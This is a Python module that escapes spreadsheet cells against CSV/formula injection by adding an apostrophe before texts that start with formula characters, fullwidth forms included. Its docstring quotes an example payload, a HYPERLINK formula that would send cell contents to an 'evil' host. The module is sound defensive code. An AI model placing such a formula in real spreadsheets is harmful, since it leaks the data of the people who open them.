"""Spreadsheet exports (CSV, XLSX): every cell written through :func:`cell`.

A text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is taken for a formula when the file is opened: a finding note
typed as ``=HYPERLINK("http://evil/?"&A1,"open")`` would run in the supervisor's Excel (CSV/
formula injection, OWASP). Such texts get a leading apostrophe, the spreadsheets' own "this is
text" mark; numbers, dates and booleans pass unchanged. Fullwidth ``＝ ＋ － ＠`` (Chinese input
methods) are treated the same, as some spreadsheet versions evaluate them too.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 with a BOM: Excel, which most offices open these with, needs it for Chinese."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for values in rows:
        writer.writerow(row(values))
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
